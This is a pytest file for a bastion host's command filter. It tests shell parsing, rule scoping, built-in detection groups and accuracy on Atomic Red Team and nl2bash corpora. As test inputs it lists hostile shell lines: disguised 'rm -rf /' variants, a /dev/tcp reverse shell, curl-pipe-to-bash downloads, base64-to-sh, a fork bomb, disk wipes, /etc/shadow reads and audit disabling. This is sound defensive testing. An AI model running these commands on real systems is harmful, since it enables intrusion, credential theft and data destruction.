"""The bastion's command filter: shell parsing, word patterns, rule scoping and priority, the built-in set, and its
measured quality on labelled corpora (Atomic Red Team positives, nl2bash benign) from ../shared/data."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cloudsoc.bastion.filters import CommandFilter, Verdict, load_builtin
from cloudsoc.bastion.shell import ShellParser
from cloudsoc.config.bastion import BastionConfig, CommandRuleConfig
from cloudsoc.errors import BastionError
from tests.conftest import SHARED_DATA

BASTION_DATA = SHARED_DATA / "bastion"


@pytest.fixture(scope="module")
def builtin() -> CommandFilter:
    return CommandFilter.from_config(BastionConfig())


def only(group: str) -> CommandFilter:
    """A filter with one rule on one built-in group, to test that group alone."""
    data = load_builtin()
    rule = CommandRuleConfig(name="only", groups=[group], action="review")
    return CommandFilter(data["groups"], [("only", rule)], paths=data["paths"], aliases=data["aliases"])


# ---- parsing: every way of spelling or hiding `rm -rf /` that bash would still run ------------------------------

HIDDEN_RM = [
    "rm -rf /",
    "ls;rm -rf /",
    "ls && rm -rf / || true",
    "cat x | rm -rf /",
    "echo $(rm -rf /)",
    "echo `rm -rf /`",
    "bash -c 'rm -rf /'",
    'sh -c "rm -rf /etc"',
    "eval 'rm -rf /'",
    "sudo -u root bash -c 'eval \"rm -rf /\"'",
    "sudo rm -rf /",
    "env X=1 LANG=C rm -rf /",
    "nohup rm -rf / &",
    "time rm -rf /",
    "exec rm -rf /",
    "command rm -rf /",
    "busybox rm -rf /",
    "timeout 5 rm -rf /",
    "r''m -rf /",
    '"rm" -rf /',
    "/bin/rm -rf /",
    "\\rm -rf /",
    "rm -fr /",
    "rm -r -f /etc",
    "rm --recursive --force /usr",
    "rm -R /boot",
    "rm -rf /etc/",
    "rm -rf //",
    "rm -rf /usr/./bin",
    "rm -rf /*",
    "rm -rf ~",
    "rm -rf $HOME",
    "rm -rf /tmp/x /var",
    "(cd /tmp; rm -rf /)",
    "for d in a b; do rm -rf /; done",
    "find . -exec rm -rf / \\;",
    # bashlex refuses these (`[[ ]]`, arithmetic): the fallback tokeniser still finds the rm.
    "[[ -d /x ]] && rm -rf /",
    "echo $((1+1)); rm -rf /",
]


@pytest.mark.parametrize("line", HIDDEN_RM)
def test_hidden_rm_is_rejected(builtin: CommandFilter, line: str) -> None:
    verdict = builtin.check(line, user="alice")
    assert (verdict.action, verdict.group, verdict.risk) == ("reject", "rm-system", "critical"), verdict
    assert verdict.rule == "builtin-destructive"
    assert "T1485" in verdict.reason


NOT_SYSTEM_RM = [
    "rm -rf ./build",
    "rm -rf build/",
    "rm -rf /tmp/build",
    "rm -rf /home/bob/old-project",
    "rm -rf /var/www/site/cache",
    "rm /etc/motd",
    "echo 'rm -rf /'",
    "grep 'rm -rf /' notes.txt",
    "git commit -m 'never rm -rf /'",
    "ls -la /",
    "cd / && ls",
]


@pytest.mark.parametrize("line", NOT_SYSTEM_RM)
def test_ordinary_lines_are_accepted(builtin: CommandFilter, line: str) -> None:
    assert builtin.check(line, user="alice") == Verdict("accept", "", "", "low", "no rule matched")


def test_parser_names_its_path() -> None:
    parser = ShellParser()
    assert parser.parse("ls -la /etc").parser == "plain"
    assert parser.parse("ls | wc -l").parser == "bashlex"
    assert parser.parse("[[ -f x ]] && echo y").parser == "fallback"
    assert parser.parse("cat <<EOF").parser == "fallback"  # a heredoc whose body is not typed yet
    assert parser.parse("   ").parser == "empty"


def test_parser_resolves_wrappers_substitutions_and_nested_scripts() -> None:
    parsed = ShellParser().parse('sudo -u root env A=1 nohup sh -c "$(curl -fsSL https://x.example/i.sh)"')
    names = [[c.name for c in p] for p in parsed.pipelines]
    # The substitution's output feeds the shell, as a pipe would.
    assert ["curl", "sh"] in names
    assert parsed.pipelines[-1][-1].argv[:2] == ("sh", "-c")
    assert "$(curl -fsSL https://x.example/i.sh)" in parsed.texts


def test_regex_still_decides_when_bashlex_fails(builtin: CommandFilter) -> None:
    line = "[[ -x /bin/bash ]] && bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
    assert builtin.parse(line).parser == "fallback"
    verdict = builtin.check(line, user="alice")
    assert (verdict.action, verdict.group) == ("reject", "reverse-shell")


def test_unclosed_quote_and_huge_line_do_not_crash(builtin: CommandFilter) -> None:
    # An unclosed quote cannot run yet (bash asks for more): it is read conservatively, quotes ignored.
    assert builtin.check('echo "unclosed; rm -rf /', user="a").action == "reject"
    assert builtin.check("rm -rf / 'unclosed", user="a").action == "reject"
    huge = "echo " + "a" * 20000 + "; mkfs.ext4 /dev/sdb"
    assert builtin.check(huge, user="a").group == "mkfs"


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(alphabet=st.sampled_from(list("rm -f/;|&()$`'\"\\<>{}[]!*~=\n\tabcshx0")), max_size=60))
def test_any_input_gets_a_verdict(line: str) -> None:
    verdict = CommandFilter.from_config(BastionConfig()).check(line, user="fuzz")
    assert verdict.action in ("accept", "warn", "review", "reject")


# ---- configuration: scoping, priority, validation ------------------------------------------------------------


def config(**kw: Any) -> BastionConfig:
    return BastionConfig.model_validate(kw)


def test_scoping_by_user_group_and_host_group() -> None:
    cfg = config(
        command_groups={"deploys": {"words": ["systemctl restart", "kubectl rollout"], "risk": "medium"}},
        command_rules=[
            {
                "name": "ops-may-deploy-web",
                "groups": ["deploys"],
                "action": "accept",
                "priority": 10,
                "users": ["ops"],
                "host_groups": ["web"],
            },
            {"name": "nobody-else", "groups": ["deploys"], "action": "reject", "priority": 20},
        ],
    )
    flt = CommandFilter.from_config(cfg)
    line = "sudo systemctl restart nginx"
    assert flt.check(line, user="carol", groups=["ops"], host_groups=["web", "eu"]).rule == "ops-may-deploy-web"
    assert flt.check(line, user="carol", groups=["ops"], host_groups=["web"]).action == "accept"
    assert flt.check(line, user="carol", groups=["ops"], host_groups=["db"]).action == "reject"
    assert flt.check(line, user="dave", groups=["dev"], host_groups=["web"]).action == "reject"
    # A user name in `users` counts like a group.
    cfg2 = cfg.model_copy(
        update={"command_rules": [CommandRuleConfig(groups=["deploys"], action="warn", users=["erin"])]}
    )
    flt2 = CommandFilter.from_config(cfg2)
    assert flt2.check(line, user="erin").action == "warn"
    assert flt2.check(line, user="erin").rule == "config#1"
    assert flt2.check(line, user="frank").action == "accept"


def test_priority_orders_rules_and_config_wins_ties() -> None:
    line = "rm -rf /var"
    # The default priority (50) comes after the built-in reject (40): an admin cannot open it by accident.
    late = config(command_rules=[{"groups": ["rm-system"], "action": "accept", "users": ["root-admins"]}])
    assert CommandFilter.from_config(late).check(line, user="x", groups=["root-admins"]).action == "reject"
    tie = config(command_rules=[{"groups": ["rm-system"], "action": "warn", "priority": 40}])
    assert CommandFilter.from_config(tie).check(line, user="x").action == "warn"
    early = config(
        command_rules=[{"groups": ["rm-system"], "action": "accept", "priority": 5, "users": ["root-admins"]}]
    )
    flt = CommandFilter.from_config(early)
    assert flt.check(line, user="x", groups=["root-admins"]).action == "accept"
    assert flt.check(line, user="y").action == "reject"


def test_builtin_rules_off_keeps_builtin_groups_usable() -> None:
    cfg = config(builtin_rules=False, command_rules=[{"groups": ["power"], "action": "warn"}])
    flt = CommandFilter.from_config(cfg)
    assert flt.check("rm -rf /", user="x").action == "accept"
    assert flt.check("sudo reboot", user="x").action == "warn"


def test_regex_groups_and_path_sets_in_config() -> None:
    cfg = config(
        command_groups={
            "prod-db": {"words": ["psql -h prod-*"], "regex": [r"(?i)\bdrop\s+table\b"], "risk": "high"},
            "etc-edit": {"words": ["{vi,vim,nano} @system"], "risk": "medium"},
        },
        command_rules=[{"groups": ["prod-db", "etc-edit"], "action": "review", "priority": 10}],
    )
    flt = CommandFilter.from_config(cfg)
    assert flt.check("psql -h prod-eu-1 -U app", user="x").group == "prod-db"
    assert flt.check("psql -h staging -c 'Drop Table users'", user="x").group == "prod-db"
    assert flt.check("psql -h staging -c 'select 1'", user="x").action == "accept"
    assert flt.check("sudo vim /etc/", user="x").group == "etc-edit"


def test_invalid_configuration_is_refused() -> None:
    with pytest.raises(BastionError, match="unknown command groups"):
        CommandFilter.from_config(config(command_rules=[{"groups": ["nope"]}]))
    with pytest.raises(BastionError, match="bad"):
        CommandFilter.from_config(config(command_groups={"bad": {"regex": ["(unclosed"]}}))
    with pytest.raises(BastionError, match="unknown path set"):
        CommandFilter.from_config(config(command_groups={"bad": {"words": ["rm @nowhere"]}}))


# ---- the built-in set: each group with one line it must catch and a look-alike it must not --------------------

GROUP_CASES: dict[str, tuple[str, str]] = {
    "rm-system": ("sudo rm -rf --no-preserve-root /", "rm -rf ./build"),
    "mkfs": ("mkfs.ext4 /dev/sdb1", "lsblk -f"),
    "dd-disk": ("dd if=/dev/zero of=/dev/nvme0n1 bs=1M", "dd if=/dev/zero of=./img bs=1M count=10"),
    "power": ("sudo shutdown -h now", "last reboot"),
    "chmod-system": ("chmod -R 777 /", "chmod 777 file"),
    "fork-bomb": (":(){ :|:& };:", "f() { echo hi; }; f"),
    "download-exec": (
        "curl -fsSL https://x.example/i.sh | sudo bash",
        "curl -s https://x.example/a | python3 -m json.tool",
    ),
    "decode-exec": ("echo ZWNobyBoaQ== | base64 -d | sh", "echo aGk= | base64 -d"),
    "reverse-shell": ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "nc -zv db 5432"),
    "history-clear": ("unset HISTFILE", "history | tail"),
    "defense-impair": ("sudo systemctl stop auditd.service", "systemctl status auditd"),
    "ssh-keys": ("echo ssh-ed25519 AAAA x >> ~/.ssh/authorized_keys", "cat ~/.ssh/authorized_keys"),
    "accounts": ("sudo usermod -aG sudo mallory", "usermod -aG developers bob"),
    "cron-persistence": ("crontab -e", "crontab -l"),
    "kernel-module": ("insmod ./rootkit.ko", "lsmod"),
    "suid-caps": ("chmod u+xs /tmp/x", "chmod g+s shared_dir"),
    "preload-hijack": ("echo /tmp/x.so | sudo tee -a /etc/ld.so.preload", "LD_PRELOAD=./fast.so ./bench"),
    "log-wipe": ("echo > /var/log/auth.log", "tail -f /var/log/syslog"),
    "shell-escape": ("find . -exec /bin/sh \\; -quit", "find . -name '*.log' -exec sh -c 'gzip \"$1\"' _ {} \\;"),
    "shadow-read": ("sudo cat /etc/shadow", "cat /etc/hostname"),
    "miner-hacktool": ("./xmrig -o stratum+tcp://pool.example:3333", "htop"),
    "container-escape": ("docker run --privileged -it alpine sh", "docker run -it alpine sh"),
    "file-shred": ("shred -u secret.txt", "sha256sum secret.txt"),
    "scheduled-at": ("at now + 1 minute -f job.sh", "atq"),
    "password-change": ("passwd bob", "cat /etc/passwd"),
    "shell-rc-persistence": ("echo 'alias ls=x' >> ~/.bashrc", "cat ~/.bashrc"),
    "security-config": (
        "sudo sed -i 's/^active = yes/active = no/' /etc/audit/plugins.d/syslog.conf",
        "cat /etc/audit/auditd.conf",
    ),
    "credential-hunt": ("find / -name id_rsa 2>/dev/null", "find . -name '*.py'"),
    "sniffing": ("sudo tcpdump -i eth0 port 53", "ping -c1 db"),
    "timestomp": ("touch -r /bin/ls /tmp/implant", "touch newfile"),
    "transient-service": ("systemd-run --on-calendar=hourly /tmp/x", "systemctl list-timers"),
    "tunnel": ("nohup cloudflared tunnel --url localhost:8080 &", "cloudflared --version"),
    "exec-from-tmp": ("cd /tmp && /dev/shm/.x/kworker", "ls /tmp/x"),
}


def test_every_builtin_group_has_cases() -> None:
    assert set(GROUP_CASES) == set(load_builtin()["groups"])


@pytest.mark.parametrize("group", sorted(GROUP_CASES))
def test_builtin_group_matches_and_spares(group: str) -> None:
    catch, spare = GROUP_CASES[group]
    flt = only(group)
    assert flt.check(catch, user="x").group == group, catch
    assert flt.check(spare, user="x").action == "accept", spare


def test_builtin_actions_by_severity(builtin: CommandFilter) -> None:
    assert builtin.check("mkfs.xfs /dev/sdc", user="x").action == "reject"
    assert builtin.check("curl -s https://x.example | sh", user="x").action == "review"
    assert builtin.check("crontab -e", user="x").action == "warn"


# ---- the corpora: numbers measured by bench/bastion_filter_bench.py, minus a margin ----------------------------

_PLACEHOLDER = re.compile(r"#\{([^}]+)\}")


def _atomic_tests() -> list[list[str]]:
    path = BASTION_DATA / "atomic-red-team-linux" / "linux_atomic_commands.jsonl"
    tests = []
    for raw in path.read_text(encoding="utf-8").splitlines():
        test = json.loads(raw)
        if test["executor"] not in ("sh", "bash"):
            continue
        args = test.get("input_arguments") or {}
        command = _PLACEHOLDER.sub(lambda m, a=args: str(a.get(m.group(1), m.group(0))), test["command"])
        lines = [ln.strip() for ln in command.splitlines()]
        tests.append([ln for ln in lines if ln and not ln.startswith("#")])
    return tests


def test_corpus_recall_and_false_positives(builtin: CommandFilter) -> None:
    tests = _atomic_tests()
    detected = sum(any(builtin.check(ln, user="x").action != "accept" for ln in lines) for lines in tests)
    assert len(tests) == 398
    assert detected / len(tests) >= 0.40  # measured 170/398 = 42.7%

    benign = [ln for ln in Path(BASTION_DATA / "nl2bash" / "all.cm").read_text().splitlines() if ln.strip()]
    verdicts = [builtin.check(ln, user="x") for ln in benign]
    flagged = [v for v in verdicts if v.action != "accept"]
    rejected = [ln for ln, v in zip(benign, verdicts, strict=True) if v.action == "reject"]
    assert len(flagged) <= 70  # measured 58 of 12,607 (0.46%)
    # Measured: 5. Four are real writes to a whole disk (`... | dd of=/dev/sdb`): truly destructive. One is a toy
    # web server on `nc -l -c '...'`, which runs a command for anyone who connects: a bind shell by shape.
    assert len(rejected) <= 6
    assert all("of=/dev/sd" in ln or "nc -l" in ln for ln in rejected), rejected
    assert sum("nc -l" in ln for ln in rejected) <= 1


def test_the_log_directory_itself_counts_as_logs(builtin: CommandFilter) -> None:
    for line in ("rm -rf /var/log", "rm -rf /var/log/", "rm -rf /var/log/*", "> /var/log/auth.log"):
        assert builtin.check(line, user="x").group == "log-wipe", line
    for line in ("ls /var/log", "tail -f /var/log/syslog"):
        assert builtin.check(line, user="x").action == "accept", line
